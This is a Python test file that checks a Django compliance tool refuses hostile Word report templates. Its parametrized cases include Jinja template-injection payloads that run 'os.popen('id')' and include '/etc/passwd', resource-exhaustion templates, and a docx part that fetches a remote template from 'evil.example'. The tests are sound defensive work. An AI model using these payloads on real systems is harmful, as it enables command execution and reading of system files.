"""Reports in the organisation's own Word file: filled in as text, and unable to reach anything."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document

from sightline.kernel.actions import perform
from sightline.kernel.errors import Invalid, NotPermitted
from sightline.kernel.exports import find_export, make_file
from sightline.kernel.identity.actors import Actor
from sightline.readers.frameworks.applying import ensure_shipped_frameworks
from sightline.readers.frameworks.models import Requirement

from ..making import report_bytes
from ..models import ReportTemplate
from ..templating import example, filled, hold_harmless

pytestmark = pytest.mark.django_db

HOSTILE = "<b> & {{ 7*7 }} \x0b {% raw %} ]]>"


@pytest.fixture
def loaded(lead: Actor) -> Actor:
    """The lead, and a plan whose step holds everything that could be taken for markup."""
    ensure_shipped_frameworks(Actor.system(), "system", only=("iso42001",))
    policy = Requirement.objects.get(key="iso42001:5.2")
    perform("plan_gap", lead, {"step": HOSTILE.replace("\x0b", "")}, face="web", subject=policy)
    return lead


def _docx(*paragraphs: str) -> bytes:
    document = Document()
    for words in paragraphs:
        document.add_paragraph(words)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def _set(actor: Actor, content: bytes, report: str = "gap") -> None:
    files = {"file": SimpleUploadedFile("ours.docx", content)}
    perform("set_report_template", actor, {"report": report}, face="web", files=files)


def _with(content: bytes, name: str, added: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as parts, zipfile.ZipFile(made, "w") as packed:
        for info in parts.infolist():
            if info.filename != name:
                packed.writestr(info, parts.read(info))
        packed.writestr(name, added)
    return made.getvalue()


def _texts(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in document.paragraphs), *cells])


@pytest.mark.parametrize("report", ["gap", "soa"])
def test_the_example_is_set_and_the_report_comes_in_it(loaded: Actor, report: str) -> None:
    export = find_export("report-template")
    assert export is not None
    _set(loaded, example(report), report)
    said = _texts(report_bytes(report, "docx", loaded))
    assert "requirements are in line" in said
    assert ("5.2 AI policy" if report == "gap" else "A.2.2") in said
    assert report_bytes(report, "docx", loaded) == report_bytes(report, "docx", loaded)
    perform("drop_report_template", loaded, {}, face="web", subject=ReportTemplate.objects.get(), reason="Ours is enough")
    assert "Made by" in _texts(report_bytes(report, "docx", loaded))


def test_what_people_wrote_stays_text(loaded: Actor) -> None:
    _set(loaded, _docx("{% for gap in gaps %}{{ gap.step }}{% endfor %}"))
    assert "<b> & {{ 7*7 }}  {% raw %} ]]>" in _texts(report_bytes("gap", "docx", loaded))


def test_characters_that_word_cant_hold_are_left_out() -> None:
    assert "ab & <c>" in _texts(filled(_docx("{{ x }}"), {"x": "a\x0bb & <c>"}))


@pytest.mark.parametrize(
    "hostile",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ gaps.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ gaps.append(1) }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 ** 9 }}",
        "{{ 'a'.ljust(1000000000) }}",
        "{{ '%1000000000d' % 1 }}",
        "{{ '{0.__class__}'.format(title) }}",
        "{{ title | center(1000000000) }}",
        "{{ title | attr('__class__') }}",
        "{{ title | safe }}",
        "{% for i in range(100000000) %}x{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% autoescape false %}{{ title }}{% endautoescape %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% for a in gaps %}{% for b in gaps %}{% for c in gaps %}{% for d in gaps %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    ],
)
def test_a_hostile_field_reaches_nothing(loaded: Actor, hostile: str) -> None:
    with pytest.raises(Invalid) as refused:
        _set(loaded, _docx(hostile))
    assert refused.value.fields
    assert "template" in refused.value.fields["file"][0]
    assert not ReportTemplate.objects.exists()


def test_a_wrong_field_is_named_with_those_that_there_are(loaded: Actor) -> None:
    with pytest.raises(Invalid) as refused:
        _set(loaded, _docx("{{ gapz }}"))
    said = refused.value.fields["file"][0]
    assert "gapz" in said
    assert "gaps, groups" in said
    with pytest.raises(Invalid) as refused:
        _set(loaded, _docx("{% for gap in gaps %} {{ gap.code }}"))
    assert "can't be read" in refused.value.fields["file"][0]


_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (lambda: b"%PDF-1.7", "not a Word document"),
        (lambda: _with(_docx("x"), "word/vbaProject.bin", b"x"), "macro"),
        (lambda: _with(_docx("x"), "word/_rels/settings.xml.rels", _RELS), "fetch something"),
        (lambda: _with(_docx("x"), "word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "not as Word writes it"),
        (lambda: _with(_docx("x"), "word/media/zeros.xml", bytes(61 * 1024 * 1024)), "far more"),
    ],
)
def test_a_hostile_file_is_refused_before_it_is_opened(content: object, said: str) -> None:
    with pytest.raises(Invalid, match=said):
        hold_harmless(content())  # type: ignore[operator]


def test_only_who_may_sets_one(auditor: Actor, loaded: Actor) -> None:
    with pytest.raises(NotPermitted):
        _set(auditor, example("gap"))
    export = find_export("report-template")
    assert export is not None
    assert make_file(export, auditor, "docx", None, {"report": "soa"}).name.endswith(".docx")
